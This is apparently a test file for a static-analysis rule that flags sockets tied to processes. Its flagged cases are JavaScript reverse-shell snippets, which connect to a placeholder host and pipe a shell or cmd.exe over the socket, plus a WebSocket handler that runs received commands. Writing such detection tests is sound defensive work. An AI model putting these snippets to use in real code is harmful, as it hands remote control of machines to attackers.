function connect() {
  const client = net.connect(4444, "collector.invalid", () => {
    // ruleid: ties-socket-to-process
    client.pipe(sh.stdin);
    sh.stdout.pipe(client);
    sh.stderr.pipe(client);
  });
}

const socket = new net.Socket();
socket.connect(443, "collector.invalid", () => {
  const cmd = spawn("cmd.exe", []);
  // ruleid: ties-socket-to-process
  cmd.stdout.pipe(socket);
  socket.pipe(cmd.stdin);
});

ws.on("message", (command) => {
  // ruleid: ties-socket-to-process
  exec(command.toString(), (error, out) => ws.send(out));
});

// ok: ties-socket-to-process
response.pipe(file);
// ok: ties-socket-to-process
child.stdout.pipe(process.stdout);
child.stdout.on("data", (text) => {
  // ok: ties-socket-to-process
  const found = /version (\d+)/.exec(text);
});
